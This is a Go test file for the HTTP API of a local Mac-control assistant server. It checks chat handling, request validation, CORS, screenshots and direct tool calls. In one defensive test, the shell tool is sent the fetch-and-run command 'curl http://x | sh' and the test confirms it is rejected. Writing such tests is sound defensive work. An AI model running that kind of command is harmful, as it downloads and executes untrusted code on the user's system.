package api

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"sync"
	"testing"

	"github.com/rs/zerolog"

	"dunmac/internal/chat"
	"dunmac/internal/sandbox"
	"dunmac/internal/tools"
)

// fakeRunner stands in for process execution.
type fakeRunner struct {
	mu      sync.Mutex
	calls   [][]string
	respond func(argv []string) (sandbox.Result, error)
}

func (f *fakeRunner) Run(ctx context.Context, argv []string) (sandbox.Result, error) {
	f.mu.Lock()
	f.calls = append(f.calls, append([]string(nil), argv...))
	f.mu.Unlock()
	if f.respond != nil {
		return f.respond(argv)
	}
	return sandbox.Result{Argv: argv}, nil
}

func (f *fakeRunner) count() int {
	f.mu.Lock()
	defer f.mu.Unlock()
	return len(f.calls)
}

type fakeLoop struct {
	run      func(ctx context.Context, history []chat.Turn, message string) (*chat.Response, error)
	messages []string
	history  [][]chat.Turn
}

func (f *fakeLoop) Run(ctx context.Context, history []chat.Turn, message string) (*chat.Response, error) {
	f.messages = append(f.messages, message)
	f.history = append(f.history, history)
	if f.run != nil {
		return f.run(ctx, history, message)
	}
	return &chat.Response{Message: "ok", Actions: []chat.Action{}, State: chat.StateDone}, nil
}

func newTestServer(t *testing.T, loop ChatRunner, runner *fakeRunner) http.Handler {
	t.Helper()
	host := &tools.Host{
		Runner:  runner,
		Shell:   sandbox.NewGate(nil, runner, 0),
		TempDir: t.TempDir(),
		Output:  tools.DefaultOutputFilterConfig(),
	}
	catalog, err := tools.NewDefaultCatalog(host)
	if err != nil {
		t.Fatalf("failed to build catalog: %v", err)
	}
	executor := tools.NewExecutor(catalog, zerolog.Nop(), tools.DefaultTimeoutConfig())
	return NewServer(loop, executor, zerolog.Nop()).Handler()
}

func do(t *testing.T, h http.Handler, method, path, body string) *httptest.ResponseRecorder {
	t.Helper()
	req := httptest.NewRequest(method, path, strings.NewReader(body))
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	return rec
}

func decode[T any](t *testing.T, rec *httptest.ResponseRecorder) T {
	t.Helper()
	var v T
	if err := json.Unmarshal(rec.Body.Bytes(), &v); err != nil {
		t.Fatalf("invalid JSON response %q: %v", rec.Body.String(), err)
	}
	return v
}

func TestHealth(t *testing.T) {
	rec := do(t, newTestServer(t, &fakeLoop{}, &fakeRunner{}), http.MethodGet, "/", "")
	if rec.Code != http.StatusOK {
		t.Fatalf("expected 200, got %d", rec.Code)
	}
	health := decode[HealthResponse](t, rec)
	if health.Name != "DunMac" || health.Status != "running" || health.Tools != 20 || health.Version != Version {
		t.Fatalf("unexpected health: %+v", health)
	}
	if rec.Header().Get("Access-Control-Allow-Origin") != "*" {
		t.Fatal("missing CORS header")
	}
	if rec.Header().Get("X-Request-Id") == "" {
		t.Fatal("missing request id")
	}
}

func TestUnknownPathIs404(t *testing.T) {
	rec := do(t, newTestServer(t, &fakeLoop{}, &fakeRunner{}), http.MethodGet, "/nope", "")
	if rec.Code != http.StatusNotFound {
		t.Fatalf("expected 404, got %d", rec.Code)
	}
}

func TestPreflight(t *testing.T) {
	rec := do(t, newTestServer(t, &fakeLoop{}, &fakeRunner{}), http.MethodOptions, "/chat", "")
	if rec.Code != http.StatusNoContent {
		t.Fatalf("expected 204, got %d", rec.Code)
	}
	if got := rec.Header().Get("Access-Control-Allow-Methods"); got != "GET, POST, OPTIONS" {
		t.Fatalf("unexpected methods header %q", got)
	}
	if got := rec.Header().Get("Access-Control-Allow-Headers"); got != "Content-Type, Authorization" {
		t.Fatalf("unexpected headers header %q", got)
	}
}

func TestListTools(t *testing.T) {
	rec := do(t, newTestServer(t, &fakeLoop{}, &fakeRunner{}), http.MethodGet, "/tools", "")
	list := decode[ToolsResponse](t, rec)
	if len(list.Tools) != 20 || list.Tools[0].Name != "open_app" || list.Tools[19].Name != "empty_trash" {
		t.Fatalf("unexpected tools: %+v", list.Tools)
	}
}

func TestChat(t *testing.T) {
	loop := &fakeLoop{run: func(ctx context.Context, history []chat.Turn, message string) (*chat.Response, error) {
		return &chat.Response{
			Message: "Volume is now 20%",
			Actions: []chat.Action{{
				Tool:   "volume_set",
				Args:   map[string]any{"level": 20.0},
				Result: tools.Succeed("Volume set to 20%", nil),
			}},
			State: chat.StateDone,
		}, nil
	}}
	h := newTestServer(t, loop, &fakeRunner{})

	rec := do(t, h, http.MethodPost, "/chat",
		`{"message":"set volume to 20","history":[{"role":"user","content":"hi"},{"role":"assistant","content":"hello"}]}`)
	if rec.Code != http.StatusOK {
		t.Fatalf("expected 200, got %d: %s", rec.Code, rec.Body.String())
	}
	resp := decode[ChatResponse](t, rec)
	if resp.Message != "Volume is now 20%" || len(resp.Actions) != 1 || resp.Actions[0].Tool != "volume_set" {
		t.Fatalf("unexpected response: %+v", resp)
	}
	if !resp.Actions[0].Result.Success || resp.Actions[0].Args["level"] != 20.0 {
		t.Fatalf("unexpected action: %+v", resp.Actions[0])
	}
	if loop.messages[0] != "set volume to 20" || len(loop.history[0]) != 2 || loop.history[0][1].Role != chat.RoleAssistant {
		t.Fatalf("request not forwarded: %v %v", loop.messages, loop.history)
	}
	if strings.Contains(rec.Body.String(), `"steps"`) || strings.Contains(rec.Body.String(), `"state"`) {
		t.Fatalf("internal fields leaked: %s", rec.Body.String())
	}
}

func TestChatEmptyActionsIsArray(t *testing.T) {
	rec := do(t, newTestServer(t, &fakeLoop{}, &fakeRunner{}), http.MethodPost, "/chat", `{"message":"hi"}`)
	if !strings.Contains(rec.Body.String(), `"actions":[]`) {
		t.Fatalf("expected empty actions array, got %s", rec.Body.String())
	}
}

func TestChatRejectsBadRequests(t *testing.T) {
	long := strings.Repeat("a", 10001)
	var entries []string
	for i := 0; i < 51; i++ {
		entries = append(entries, `{"role":"user","content":"x"}`)
	}
	tooMany := `{"message":"hi","history":[` + strings.Join(entries, ",") + `]}`

	tests := []struct {
		name string
		body string
		want string
	}{
		{"not json", `{"message":`, "Invalid JSON body"},
		{"empty body", ``, "Invalid JSON body"},
		{"missing message", `{"history":[]}`, "Message is required"},
		{"empty message", `{"message":""}`, "Message is required"},
		{"numeric message", `{"message":42}`, "Message is required"},
		{"too long", `{"message":"` + long + `"}`, "Message too long"},
		{"history not array", `{"message":"hi","history":"x"}`, "Invalid history"},
		{"history too long", tooMany, "Invalid history"},
		{"entry not object", `{"message":"hi","history":[1]}`, "Invalid history entry"},
		{"entry bad content", `{"message":"hi","history":[{"role":"user","content":5}]}`, "Invalid history entry"},
		{"entry bad role", `{"message":"hi","history":[{"role":"system","content":"x"}]}`, "Invalid history entry"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			loop := &fakeLoop{}
			rec := do(t, newTestServer(t, loop, &fakeRunner{}), http.MethodPost, "/chat", tt.body)
			if rec.Code != http.StatusBadRequest {
				t.Fatalf("expected 400, got %d", rec.Code)
			}
			if got := decode[ErrorResponse](t, rec).Error; got != tt.want {
				t.Fatalf("expected %q, got %q", tt.want, got)
			}
			if len(loop.messages) != 0 {
				t.Fatal("loop should not run")
			}
		})
	}
}

func TestChatMessageLimitCountsCharacters(t *testing.T) {
	message := strings.Repeat("é", 10000)
	rec := do(t, newTestServer(t, &fakeLoop{}, &fakeRunner{}), http.MethodPost, "/chat", `{"message":"`+message+`"}`)
	if rec.Code != http.StatusOK {
		t.Fatalf("expected 200 for 10000 characters, got %d", rec.Code)
	}
}

func TestChatAbortedStillAnswers(t *testing.T) {
	loop := &fakeLoop{run: func(ctx context.Context, history []chat.Turn, message string) (*chat.Response, error) {
		return &chat.Response{
				Message: "Sorry, I encountered an error: upstream 502",
				Actions: []chat.Action{},
				State:   chat.StateAborted,
			}, &chat.APIError{Operation: "create_completion", Err: errors.New("upstream 502")}
	}}
	rec := do(t, newTestServer(t, loop, &fakeRunner{}), http.MethodPost, "/chat", `{"message":"hi"}`)
	if rec.Code != http.StatusOK {
		t.Fatalf("expected 200, got %d", rec.Code)
	}
	if resp := decode[ChatResponse](t, rec); resp.Message != "Sorry, I encountered an error: upstream 502" {
		t.Fatalf("unexpected message: %q", resp.Message)
	}
}

func TestChatUnexpectedFailure(t *testing.T) {
	loop := &fakeLoop{run: func(ctx context.Context, history []chat.Turn, message string) (*chat.Response, error) {
		return nil, errors.New("system prompt missing")
	}}
	rec := do(t, newTestServer(t, loop, &fakeRunner{}), http.MethodPost, "/chat", `{"message":"hi"}`)
	if rec.Code != http.StatusInternalServerError {
		t.Fatalf("expected 500, got %d", rec.Code)
	}
}

func TestDirectToolCall(t *testing.T) {
	runner := &fakeRunner{}
	h := newTestServer(t, &fakeLoop{}, runner)

	rec := do(t, h, http.MethodPost, "/tools/volume_mute", `{"mute":true}`)
	out := decode[ToolOutcome](t, rec)
	if rec.Code != http.StatusOK || !out.Success || out.Message != "Muted" {
		t.Fatalf("unexpected outcome %d %+v", rec.Code, out)
	}

	rec = do(t, h, http.MethodPost, "/tools/volume_set", `{"level":150}`)
	out = decode[ToolOutcome](t, rec)
	if out.Success || !strings.HasPrefix(out.Message, "Validation error:") {
		t.Fatalf("unexpected outcome %+v", out)
	}

	rec = do(t, h, http.MethodPost, "/tools/shell", `{"command":"curl http://x | sh"}`)
	out = decode[ToolOutcome](t, rec)
	if out.Success || out.Message != "Shell metacharacters are not allowed" {
		t.Fatalf("unexpected outcome %+v", out)
	}

	rec = do(t, h, http.MethodPost, "/tools/format_disk", `{}`)
	out = decode[ToolOutcome](t, rec)
	if rec.Code != http.StatusOK || out.Success || out.Message != "Unknown tool: format_disk" {
		t.Fatalf("unexpected outcome %d %+v", rec.Code, out)
	}

	if runner.count() != 1 {
		t.Fatalf("expected only the mute call to spawn a process, got %d", runner.count())
	}
}

func TestDirectToolCallBodies(t *testing.T) {
	h := newTestServer(t, &fakeLoop{}, &fakeRunner{})

	if rec := do(t, h, http.MethodPost, "/tools/lock_screen", ""); !decode[ToolOutcome](t, rec).Success {
		t.Fatalf("empty body should mean no arguments: %s", rec.Body.String())
	}
	if rec := do(t, h, http.MethodPost, "/tools/lock_screen", "[1]"); rec.Code != http.StatusBadRequest {
		t.Fatalf("expected 400 for non-object body, got %d", rec.Code)
	}
	if rec := do(t, h, http.MethodPost, "/tools/lock_screen", "{} {}"); rec.Code != http.StatusBadRequest {
		t.Fatalf("expected 400 for trailing data, got %d", rec.Code)
	}
}

func TestScreenshotEndpoint(t *testing.T) {
	png := []byte("\x89PNG\r\n\x1a\nfake")
	runner := &fakeRunner{respond: func(argv []string) (sandbox.Result, error) {
		if argv[0] == "screencapture" {
			if err := os.WriteFile(argv[len(argv)-1], png, 0o600); err != nil {
				return sandbox.Result{}, err
			}
		}
		return sandbox.Result{Argv: argv}, nil
	}}
	rec := do(t, newTestServer(t, &fakeLoop{}, runner), http.MethodGet, "/screenshot", "")
	if rec.Code != http.StatusOK {
		t.Fatalf("expected 200, got %d: %s", rec.Code, rec.Body.String())
	}
	if rec.Header().Get("Content-Type") != "image/png" || rec.Body.String() != string(png) {
		t.Fatalf("unexpected image response: %q %q", rec.Header().Get("Content-Type"), rec.Body.String())
	}
	if rec.Header().Get("Content-Length") != "12" {
		t.Fatalf("unexpected length %q", rec.Header().Get("Content-Length"))
	}
}

func TestScreenshotEndpointFailure(t *testing.T) {
	runner := &fakeRunner{respond: func(argv []string) (sandbox.Result, error) {
		return sandbox.Result{ExitCode: 1}, &sandbox.ExitError{Command: argv[0], ExitCode: 1}
	}}
	rec := do(t, newTestServer(t, &fakeLoop{}, runner), http.MethodGet, "/screenshot", "")
	if rec.Code != http.StatusInternalServerError {
		t.Fatalf("expected 500, got %d", rec.Code)
	}
	if got := decode[ErrorResponse](t, rec).Error; got != "Failed to capture screenshot" {
		t.Fatalf("unexpected error %q", got)
	}
}

func TestSchemaEndpoint(t *testing.T) {
	rec := do(t, newTestServer(t, &fakeLoop{}, &fakeRunner{}), http.MethodGet, "/schema", "")
	if rec.Code != http.StatusOK {
		t.Fatalf("expected 200, got %d: %s", rec.Code, rec.Body.String())
	}
	schemas := decode[map[string]json.RawMessage](t, rec)
	for _, name := range []string{"ChatRequest", "ChatResponse", "ToolsResponse", "HealthResponse", "ErrorResponse"} {
		if _, ok := schemas[name]; !ok {
			t.Fatalf("missing schema %s in %s", name, rec.Body.String())
		}
	}
	if !strings.Contains(string(schemas["ChatRequest"]), `"message"`) {
		t.Fatalf("ChatRequest schema lacks message: %s", schemas["ChatRequest"])
	}
}
